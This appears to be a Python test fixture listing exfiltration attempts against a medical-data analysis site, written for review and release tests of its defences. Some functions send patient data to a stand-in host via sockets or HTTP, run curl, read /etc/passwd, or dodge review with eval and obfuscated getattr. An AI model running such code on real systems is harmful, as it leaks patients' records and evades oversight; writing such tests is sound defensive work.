"""Exfiltration attempts a researcher might submit, as real functions.

The review tests and the governance lab read their source; the release tests run the ones that *return* patient
data through a real datasite after an (erroneous) approval. ``RETURNS_DATA`` names those;
the others act through side effects (files, sockets, processes) that only the review and
the site's sandboxing can stop, or return something harmless as written.
"""

# ruff: noqa
# fmt: off


def x_frame(patients):
    return patients


def x_head(patients):
    return patients.head(10)


def x_iloc(patients):
    return patients.iloc[:5]


def x_slice(patients):
    return patients[:5]


def x_to_dict(patients):
    return patients.to_dict()


def x_values(patients):
    x = patients.values
    return {'x': x}


def x_to_csv_file(patients):
    patients.to_csv('/tmp/out.csv')
    return 1


def x_open(patients):
    with open('/tmp/x', 'w') as fh:
        fh.write('x')
    return 0


def x_socket(patients):
    import socket
    s = socket.create_connection(('203.0.113.5', 80))
    s.send(b'x')
    return 0


def x_http(patients):
    import urllib.request
    urllib.request.urlopen('http://example.org/?d=' + patients.to_json())
    return 0


def x_subprocess(patients):
    import subprocess
    subprocess.run(['curl', 'example.org'])
    return 0


def x_os_system(patients):
    import os
    os.system('cat /etc/passwd')
    return 0


def x_eval(patients):
    return eval('patients.head()')


def x_exec(patients):
    exec('y = 1')
    return 0


def x_dunder_import(patients):
    return __import__('o' + 's').listdir('/')


def x_getattr_obfuscated(patients):
    return getattr(patients, 'he' + 'ad')(3)


def x_getattr_constant(patients):
    return getattr(patients, 'sample')(3)


def x_pickle(patients):
    import pickle
    return pickle.dumps(patients)


def x_print_rows(patients):
    print(patients.iloc[0])
    return 0


def x_print_frame(patients):
    print(patients)
    return 0


def x_single_patient(patients):
    return float(patients[patients['Id'] == 'abc']['LAT'].sum())


def x_rows_in_weights(cohort, weights):
    weights['head.bias'] = cohort.to_numpy()
    return weights


def x_rows_in_weights_store(cohort, weights):
    w = dict(weights)
    w['x'] = cohort['age'] * 1.0
    return w


def x_tiny_cells(patients):
    return patients.groupby(['BIRTHDATE', 'ZIP']).size().to_dict()


def x_per_record_array(patients):
    import numpy as np
    out = np.zeros(len(patients))
    return float(out.sum())


def x_record_loop(patients):
    return [r for r in patients.itertuples()]


def x_list_copy(patients):
    return list(patients)


def x_column_list(cohort):
    return {'mean': float(cohort['age'].mean()), 'detail': cohort['age'].tolist()}


def x_column_array(cohort):
    return cohort['h00_heart_rate'].to_numpy(dtype='float32')


def x_sorted_values(patients):
    return sorted(patients['HEALTHCARE_EXPENSES'].tolist())


ATTEMPTS = {name[2:]: fn for name, fn in dict(globals()).items() if name.startswith("x_") and callable(fn)}

RETURNS_DATA = ["frame", "head", "iloc", "slice", "to_dict", "values", "eval", "getattr_obfuscated",
                "getattr_constant", "pickle", "rows_in_weights", "rows_in_weights_store", "record_loop",
                "column_list", "column_array", "sorted_values"]
SUPPRESSED = ["tiny_cells"]  # released, but with every cell below the minimum size removed
